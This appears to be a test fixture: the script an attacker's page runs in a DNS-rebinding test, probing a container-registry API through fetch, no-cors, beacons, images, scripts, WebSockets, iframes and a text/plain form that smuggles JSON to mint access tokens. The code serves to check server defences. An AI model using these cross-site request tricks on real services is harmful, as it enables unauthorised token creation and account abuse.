// The script of the attacker's page in rebinding.test.ts: every way a page has to ask another server. Answers what it
// could read of each; null for nothing.
async function attack(bases, bearer) {
  const attempts = []
  const body = JSON.stringify({
    label: 'made by a page',
    resources: [{ type: 'TYPE_REPO', path: 'meadowlark/*', scopes: ['scope-image-pull'] }],
  })
  const tokens = '/v2/orgs/meadowlark/access-tokens'
  const authorization = `Bearer ${bearer}`
  const fetched = async (what, url, init) => {
    const read = await fetch(url, init).then(
      async (answer) => (answer.ok ? await answer.text() : null),
      () => null,
    )
    attempts.push({ what: `${what} ${url}`, read: read === '' ? null : read })
  }
  const settled = (what, act) =>
    new Promise((resolve) => {
      act((read) => {
        attempts.push({ what, read })
        resolve()
      })
    })

  for (const base of bases) {
    const json = { 'content-type': 'application/json', authorization }
    await fetched('fetch', `${base}${tokens}`, { headers: { authorization } })
    await fetched('fetch, public', `${base}/v2/namespaces/harborline/repositories`, {})
    await fetched('fetch POST', `${base}${tokens}`, { method: 'POST', headers: json, body })
    await fetched('fetch of a registry token', `${base}/token?service=granary-registry`, {})
    await fetched('no-cors', `${base}${tokens}`, { mode: 'no-cors', credentials: 'include' })
    await fetched('no-cors POST', `${base}${tokens}`, { mode: 'no-cors', method: 'POST', body })
    await fetched('no-cors login', `${base}/v2/users/login`, {
      ...{ mode: 'no-cors', method: 'POST', headers: { 'content-type': 'text/plain' } },
      body: JSON.stringify({ username: 'robinhale', password: 'x' }),
    })
    navigator.sendBeacon(`${base}${tokens}`, new Blob([body], { type: 'text/plain' }))
    await settled(`image ${base}`, (done) => {
      const image = new Image()
      image.onload = () => done('loaded')
      image.onerror = () => done(null)
      image.src = `${base}/v2/namespaces/harborline/repositories`
    })
    await settled(`script ${base}`, (done) => {
      const script = document.createElement('script')
      script.onload = () => done('loaded')
      script.onerror = () => done(null)
      script.src = `${base}/v2/namespaces/harborline/repositories`
      document.body.append(script)
    })
    await settled(`websocket ${base}`, (done) => {
      const socket = new WebSocket(`${base.replace('http', 'ws')}/v2/`)
      socket.onopen = () => done('open')
      socket.onerror = () => done(null)
    })
    await settled(`frame ${base}`, (done) => {
      const frame = document.createElement('iframe')
      frame.onload = () => done(frame.contentDocument?.body.textContent?.includes('results') ? 'read' : null)
      frame.src = `${base}/v2/namespaces/harborline/repositories`
      document.body.append(frame)
    })
    await settled(`form ${base}`, (done) => {
      const frame = document.createElement('iframe')
      frame.name = `target of ${base}`
      document.body.append(frame)
      const form = document.createElement('form')
      form.method = 'POST'
      form.enctype = 'text/plain'
      form.action = `${base}${tokens}`
      form.target = frame.name
      const field = document.createElement('input')
      // Together with the sign between name and value this is the JSON of a token.
      field.name = `${body.slice(0, -1)},"x":"`
      field.value = '"}'
      form.append(field)
      document.body.append(form)
      frame.onload = () => done(frame.contentDocument?.body.textContent?.includes('"token"') ? 'made' : null)
      form.submit()
    })
  }
  return attempts
}
